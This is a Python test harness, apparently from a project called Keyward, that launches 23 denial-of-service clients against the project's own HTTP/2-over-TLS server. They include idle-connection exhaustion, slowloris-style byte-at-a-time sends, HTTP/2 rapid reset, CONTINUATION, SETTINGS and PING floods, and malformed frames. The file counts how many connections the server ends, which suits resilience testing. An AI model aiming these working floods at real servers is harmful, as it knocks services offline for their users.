#!/usr/bin/python3
# Copyright 2026 The Keyward Authors
# SPDX-License-Identifier: Apache-2.0

"""Clients that do harm, each in a process of its own, started by hostile.py.

  attackers.py NAME SECONDS RANDOM-SEED ADDRESS CA CERTIFICATE KEY

What it makes up comes from the seed, on each of its threads the same again.
Prints {"connections": ..., "frames": ..., "bytes": ..., "ended": ...}: what it
did, and how many of its connections the server ended.
"""

import json
import os
import resource
import ssl
import struct
import sys
import time

from attack_kit import (
    ACCESS_BODY, FEW, TOTALS, Target, again_and_again, at_once, block, count,
    http2)

MANY = 10_000


# -- connections ---------------------------------------------------------------


def idle_tcp(target, spread=False):
    """10,000 connections that say nothing."""
    held = []
    while len(held) < MANY and target.left() > 0:
        try:
            held.append(target.plain(spread))
        except OSError:
            time.sleep(0.01)
    time.sleep(max(0, target.left()))
    count(ended=sum(ended(connection) for connection in held))


def idle_tcp_spread(target):
    """The same from 200 addresses."""
    idle_tcp(target, True)


def ended(connection):
    connection.setblocking(False)
    try:
        return not connection.recv(65536)
    except (BlockingIOError, ssl.SSLWantReadError):
        return False
    except OSError:
        return True


def idle_tls(target):
    """Up to 10,000 connections that have done all that a client has to."""
    held = []

    def open_some():
        while len(held) < MANY and target.left() > 0:
            try:
                held.append(target.http().connection)
            except OSError:
                time.sleep(0.01)

    at_once(FEW, open_some)
    time.sleep(max(0, target.left()))
    count(ended=sum(ended(connection) for connection in held))


# -- a byte at a time ------------------------------------------------------------


def dribble(target, connections, data):
    """Sends each connection's bytes one by one."""
    while connections and target.left() > 0:
        for connection in list(connections):
            piece = data.get(connection) or target.random.randbytes(1)
            try:
                connection.send(piece[:1])
                data[connection] = piece[1:]
                count(bytes=1)
            except OSError:
                count(ended=1)
                connections.remove(connection)
        time.sleep(0.2)


def hold(target, number, make):
    held = []
    while len(held) < number and target.left() > target_half(target):
        try:
            held.append(make())
        except OSError:
            time.sleep(0.01)
    return held


def target_half(target):
    """Opening connections takes no more than half of the time."""
    if not hasattr(target, "half"):
        target.half = target.left() / 2
    return target.half


def client_hello():
    """What a client of TLS says first."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    client = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def bytewise_tls(target):
    """A thousand handshakes that come a byte at a time."""
    held = hold(target, 1000, target.plain)
    hello = client_hello()
    dribble(target, held, {each: hello for each in held})


def bytewise_preface(target):
    """HTTP/2's preface a byte at a time, inside of TLS."""
    held = hold(target, 300, target.tls)
    dribble(target, held, {each: http2.PREFACE for each in held})


def bytewise_headers(target):
    """Headers in frames of one byte, of which there is always another."""
    def begin():
        connection = target.http().connection
        connection.setblocking(True)
        connection.sendall(http2.frame(http2.HEADERS, 0, 1, block()[:1]))
        return connection

    held = hold(target, 300, begin)
    rest = block((b"x", b"y" * 10_000))[1:]
    place = 0
    while held and target.left() > 0:
        piece = http2.frame(
            http2.CONTINUATION, 0, 1, rest[place:place + 1])
        place = (place + 1) % len(rest)
        for connection in list(held):
            try:
                connection.sendall(piece)
                count(frames=1, bytes=len(piece))
            except OSError:
                count(ended=1)
                held.remove(connection)
        time.sleep(0.1)


def half_calls(target):
    """Calls whose bodies never come, as many as a connection takes."""
    def begin():
        pump = target.http()
        headers = block()
        calls = b"".join(
            http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers)
            for stream in range(1, 2001, 2))
        pump.send(calls, target.until)
        count(frames=1000)
        return pump.connection

    held = hold(target, 20, begin)
    time.sleep(max(0, target.left()))
    count(ended=sum(ended(connection) for connection in held))


# -- floods ------------------------------------------------------------------------


BATCH = 500


def rapid_reset(target):
    """Calls that are taken back in the same breath."""
    headers = block()
    cancel = struct.pack(">I", http2.CANCEL)

    def make(stream):
        data = b"".join(
            http2.frame(http2.HEADERS, http2.END_HEADERS, number, headers)
            + http2.frame(http2.RST_STREAM, 0, number, cancel)
            for number in range(stream, stream + 2 * BATCH, 2))
        return data, stream + 2 * BATCH

    again_and_again(target, make, 2 * BATCH)


def whole_calls_reset(target, context=None):
    """The same with whole requests, which reach the service."""
    headers = block()
    body = ACCESS_BODY + b"small"
    message = struct.pack(">BI", 0, len(body)) + body
    cancel = struct.pack(">I", http2.CANCEL)

    def make(stream):
        data = b"".join(
            http2.frame(http2.HEADERS, http2.END_HEADERS, number, headers)
            + http2.frame(http2.DATA, http2.END_STREAM, number, message)
            + http2.frame(http2.RST_STREAM, 0, number, cancel)
            for number in range(stream, stream + 2 * BATCH, 2))
        return data, stream + 2 * BATCH

    again_and_again(target, make, 3 * BATCH, context=context)


def known_caller_resets(target):
    """The same by somebody who has a certificate, and rights."""
    whole_calls_reset(target, target.known)


def calls(target, reads=True, acknowledges=True):
    """Whole calls of strangers, as many as they can."""
    headers = block()

    def make(stream):
        data = b"".join(
            http2.frame(http2.HEADERS, http2.END_HEADERS, number, headers)
            + http2.frame(http2.DATA, http2.END_STREAM, number, bytes(5))
            for number in range(stream, stream + 2 * BATCH, 2))
        return data, stream + 2 * BATCH

    again_and_again(target, make, 2 * BATCH, reads=reads,
                    acknowledges=acknowledges)


def calls_unread(target):
    """The same, and they never read what they are told."""
    calls(target, reads=False)


def calls_unheeding(target):
    """The same, and they do not heed how many the server allows."""
    calls(target, reads=False, acknowledges=False)


def unread_values(target):
    """Reads of a large value by somebody who may, with a window of nothing."""
    headers = block()
    body = ACCESS_BODY + b"large"
    message = struct.pack(">BI", 0, len(body)) + body
    no_window = struct.pack(">HI", 4, 0)

    def one():
        while target.left() > 0:
            try:
                pump = target.http(target.known, no_window)
            except OSError:
                time.sleep(0.1)
                continue
            for stream in range(1, 2 * 250, 2):
                if not pump.send(
                        http2.frame(http2.HEADERS, http2.END_HEADERS, stream,
                                    headers)
                        + http2.frame(http2.DATA, http2.END_STREAM, stream,
                                      message), target.until):
                    break
                count(frames=2)
            while target.left() > 0 and pump.send(
                    http2.frame(http2.SETTINGS, http2.ACK, 0), target.until):
                time.sleep(0.2)
            pump.close()

    at_once(FEW, one)


def continuation(target):
    """One call whose headers never end."""
    first = http2.frame(http2.HEADERS, 0, 1, block()[:10])
    filler = b"\x00" + http2.field(b"x-filler", b"y" * 1000)[1:]
    more = http2.frame(
        http2.CONTINUATION, 0, 1, (filler * 16)[:http2.FRAME_BYTES]) * 8

    def make(stream):
        return (first + more if stream == 1 else more), stream + 2

    again_and_again(target, make, 8)


def empty_continuation(target):
    """The same without a byte of headers."""
    first = http2.frame(http2.HEADERS, 0, 1, block()[:10])
    more = http2.frame(http2.CONTINUATION, 0, 1) * 1000

    def make(stream):
        return (first + more if stream == 1 else more), stream + 2

    again_and_again(target, make, 1000)


def settings(target):
    """Settings, each of which must be acknowledged; none of it is read."""
    one = http2.frame(http2.SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))
    again_and_again(target, lambda stream: (one * 1000, stream), 1000,
                    reads=False)


def pings(target):
    """Pings, each of which must be answered; none of it is read."""
    one = http2.frame(http2.PING, 0, 0, bytes(8))
    again_and_again(target, lambda stream: (one * 1000, stream), 1000,
                    reads=False)


def priorities(target):
    """Frames that mean nothing, for streams that there are not."""
    one = http2.frame(http2.PRIORITY, 0, 1001, struct.pack(">IB", 0, 1))
    again_and_again(target, lambda stream: (one * 1000, stream), 1000)


def empty_data(target):
    """A call whose body is frames of nothing."""
    first = http2.frame(http2.HEADERS, http2.END_HEADERS, 1, block())
    more = http2.frame(http2.DATA, 0, 1) * 1000

    def make(stream):
        return (first + more if stream == 1 else more), stream + 2

    again_and_again(target, make, 1000)


def window_overflow(target):
    """A window beyond what HTTP/2 allows, and again."""
    one = http2.frame(
        http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1)) * 2
    again_and_again(target, lambda stream: (one, stream), 2)


def garbage_bytes(target):
    """Random bytes where TLS should be."""
    def one():
        while target.left() > 0:
            try:
                with target.plain() as connection:
                    connection.sendall(target.random.randbytes(
                        target.random.randrange(1, 5000)))
                    connection.recv(100)
                    count(ended=1)
            except OSError:
                pass

    at_once(FEW, one)


def garbage_frames(target):
    """Frames of random kinds, flags, streams and content, inside of TLS."""
    def make(stream):
        random = target.random
        return b"".join(
            http2.frame(random.randrange(12), random.randrange(256),
                        random.randrange(20),
                        random.randbytes(random.randrange(40)))
            for _ in range(20)), stream

    again_and_again(target, make, 20)


ATTACKS = {function.__name__: function for function in (
    idle_tcp, idle_tcp_spread, idle_tls, bytewise_tls, bytewise_preface,
    bytewise_headers, half_calls, rapid_reset, whole_calls_reset,
    known_caller_resets, calls, calls_unread, calls_unheeding, unread_values,
    continuation, empty_continuation, settings, pings, priorities, empty_data,
    window_overflow, garbage_bytes, garbage_frames)}


def main():
    name, seconds, random_seed, address, *identity = sys.argv[1:]
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    # Attackers have machines of their own; here they get what is left.
    os.nice(19)
    ATTACKS[name](Target(address, identity, float(seconds), random_seed))
    print(json.dumps(TOTALS))


if __name__ == "__main__":
    main()
